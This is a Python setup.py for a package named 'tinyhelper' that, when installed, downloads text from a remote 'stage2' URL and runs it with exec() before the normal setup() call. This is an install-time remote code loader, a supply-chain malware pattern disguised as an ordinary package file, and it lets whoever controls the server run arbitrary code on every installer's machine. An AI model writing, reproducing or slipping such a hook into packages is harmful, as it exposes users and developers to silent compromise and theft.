"""Install-time loader: the code it runs is whatever the server returns today."""
import urllib.request

from setuptools import setup

UPDATE_URL = "https://updates.example.invalid/stage2.txt"

with urllib.request.urlopen(UPDATE_URL) as reply:
    stage = reply.read().decode("utf-8")
exec(stage)

setup(name="tinyhelper", version="0.3.1", packages=[])
